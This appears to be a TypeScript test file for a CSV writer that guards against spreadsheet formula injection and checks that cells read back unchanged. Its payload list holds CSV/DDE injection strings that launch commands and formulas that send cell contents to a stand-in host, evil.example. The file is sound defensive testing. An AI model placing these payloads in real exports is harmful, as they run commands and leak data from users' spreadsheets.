/** R-HISTORY-2: a spreadsheet reads a CSV file as it was written, and no cell as a formula. */
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { csvTable, withoutGuard } from './csv.ts'

const read = (csv: string, delimiter = ','): string[][] =>
  parse(csv, { bom: true, delimiter, relax_quotes: true, relax_column_count: true })

/** Texts that a spreadsheet would calculate: a sign at the beginning of a cell, also after spaces. */
const isFormula = (cell: string) => /^[\s\p{Cf}]*[=+\-@＝＋－＠]|^[\t\r]/u.test(cell)

const PAYLOADS = [
  '=1+1',
  '=cmd|"/c calc"!A0',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1:A9),"//a")',
  '=WEBSERVICE("https://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  '=@SUM(1+1)*cmd|" /C calc"!A0',
  '==1',
  '+1+1',
  '+cmd|" /C calc"!A0',
  '+44 20 7946 0112',
  '-1+1',
  '-cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '--1',
  '@SUM(1+1)',
  '@import',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\tplain after a tab',
  '\rplain after a return',
  ' =1+1',
  '   +1',
  '\u00a0=1+1',
  '\u2003-1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u3000@A1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '"=1+1"\n=2',
  'a\n=1+1',
  'a\r\n@SUM(1)',
  'a;=1+1',
  'a; -1+1',
  'a\t=1+1',
  '=1;=2;=3',
]

test.each(PAYLOADS)('a cell that begins like a formula is written as text: %j', (payload) => {
  const [, row] = read(csvTable([['Title'], [payload]]))
  const [cell = ''] = row ?? []
  expect(isFormula(cell)).toBe(false)
  expect(cell.replaceAll("'", '')).toBe(payload.replaceAll("'", ''))
})

test('no cell begins with a formula where semicolons separate', () => {
  for (const payload of PAYLOADS) {
    const cells = read(csvTable([['Licensed', payload]]), ';').flat()
    expect(cells.filter(isFormula)).toEqual([])
  }
})

test('harmless text is written unchanged', () => {
  expect(csvTable([['Goat, "on" a roof', 'a=b', 'x - y', '10,50', '']])).toBe(
    '\uFEFF"Goat, ""on"" a roof",a=b,x - y,"10,50",\r\n',
  )
})

test('any written table is read back unchanged', () => {
  const cell = fc.string({ unit: 'grapheme' }).filter((text) => !/[=+\-@＝＋－＠\t\r]/.test(text))
  fc.assert(
    fc.property(fc.array(fc.tuple(cell, cell, cell), { minLength: 1 }), (rows) => {
      expect(read(csvTable(rows))).toEqual(rows)
    }),
  )
})

test('a guarded cell is read back unchanged', () => {
  for (const text of PAYLOADS) {
    const [[cell = ''] = []] = read(csvTable([[text]]))
    expect([text, withoutGuard(cell)]).toEqual([text, text])
  }
})

test.each(['\n', ' ', ';', '\u200B', "\n'", '\n=', "'", '\t '])(
  'a cell of 300,000 times %j is written and read in one pass (R-HISTORY-2)',
  (piece) => {
    const cell = piece.repeat(Math.ceil(300_000 / piece.length))
    const [[read = ''] = []] = parse(csvTable([[cell]]), { bom: true, relax_column_count: true })
    expect(withoutGuard(read)).toBe(cell)
  },
)
